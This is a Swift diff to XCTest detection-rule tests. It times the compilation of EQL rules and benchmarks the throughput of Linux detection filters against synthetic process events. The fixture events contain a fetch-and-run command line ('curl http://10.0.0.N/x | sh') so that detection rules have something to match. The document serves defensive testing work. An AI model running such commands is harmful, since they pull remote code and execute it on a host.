@@ -19,12 +19,15 @@ final class CorpusRuleTests: XCTestCase {
         var kinds: [String: Int] = [:]
         var failures: [String] = []
         var unknownFieldCount = 0
+        var compileTime = Duration.zero
         for file in files {
             let table = try TOMLTable(string: String(contentsOf: file, encoding: .utf8))
             guard let query = table["rule"]?["query"]?.string else {
                 failures.append("\(file.lastPathComponent): no [rule] query")
                 continue
             }
+            let started = ContinuousClock.now
+            defer { compileTime += ContinuousClock.now - started }
             do {
                 let compiled = try EQLCompiler(schema: GrowingSchema()).compile(query)
                 switch compiled.body {
@@ -39,7 +42,7 @@ final class CorpusRuleTests: XCTestCase {
         }
         let compiled = files.count - failures.count
         print("corpus: \(compiled)/\(files.count) rules compiled (event \(kinds["event", default: 0]), "
-              + "sequence \(kinds["sequence", default: 0]), sample \(kinds["sample", default: 0]))")
+              + "sequence \(kinds["sequence", default: 0]), sample \(kinds["sample", default: 0])) in \(compileTime)")
         XCTAssertEqual(failures, [], "\(failures.count) of \(files.count) rules failed")
         XCTAssertEqual(unknownFieldCount, 0, "a schema that knows every field leaves none unknown")
     }
@@ -117,5 +120,49 @@ final class CorpusRuleTests: XCTestCase {
         XCTAssertTrue(driver.matches(schema.event(load)))
         load["auditd.data.syscall"] = "FINIT_MODULE"
         XCTAssertFalse(driver.matches(schema.event(load)), "in is case-sensitive")
+    }
+
+    /// Throughput of all corpus filters over realistic process events (printed; a figure for the
+    /// README when run with `-c release`). Asserts only that the work was done.
+    func testCorpusFilterThroughput() throws {
+        let root = try SharedData.root().appendingPathComponent("detection-rules/linux-eql")
+        let schema = GrowingSchema()
+        var filters: [CompiledFilter] = []
+        for name in try FileManager.default.contentsOfDirectory(atPath: root.path) where name.hasSuffix(".toml") {
+            let table = try TOMLTable(string: String(contentsOf: root.appendingPathComponent(name), encoding: .utf8))
+            guard let query = table["rule"]?["query"]?.string else { continue }
+            switch try EQLCompiler(schema: schema).compile(query).body {
+            case .event(let filter): filters.append(filter)
+            case .sequence(let s): filters += s.stages.map(\.filter)
+            case .sample(let s): filters += s.stages.map(\.filter)
+            }
+        }
+        let shells = ["bash", "sh", "python3", "curl", "systemctl", "sshd", "cron", "UNSHARE"]
+        let events = (0..<64).map { i in
+            schema.event([
+                "event.category": ["process"], "event.type": ["start"], "event.action": "executed",
+                "host.os.type": "linux", "process.name": .string(shells[i % shells.count]),
+                "process.executable": .string("/usr/bin/\(shells[i % shells.count])"),
+                "process.args": ["-c", .string("curl http://10.0.0.\(i)/x | sh"), "--user"],
+                "process.args_count": 3, "process.command_line": .string("bash -c curl http://10.0.0.\(i)/x | sh"),
+                "process.parent.name": .string(shells[(i + 3) % shells.count]),
+                "process.parent.executable": "/usr/sbin/sshd", "user.id": .string(i % 2 == 0 ? "0" : "1000"),
+                "process.pid": .int(Int64(4000 + i)), "process.parent.pid": 1,
+            ], ordinal: i)
+        }
+        let rounds = 20
+        var matched = 0
+        let start = ContinuousClock.now
+        for _ in 0..<rounds {
+            for event in events {
+                for filter in filters where filter.matches(event) { matched += 1 }
+            }
+        }
+        let elapsed = ContinuousClock.now - start
+        let seconds = Double(elapsed.components.seconds) + Double(elapsed.components.attoseconds) / 1e18
+        let evaluations = Double(rounds * events.count * filters.count)
+        print(String(format: "corpus throughput: %d filters, %.0f events/s through all filters, %.0f ns per filter",
+                     filters.count, Double(rounds * events.count) / seconds, seconds * 1e9 / evaluations))
+        XCTAssertGreaterThan(matched, 0, "some process rules match these shell events")
     }
 }
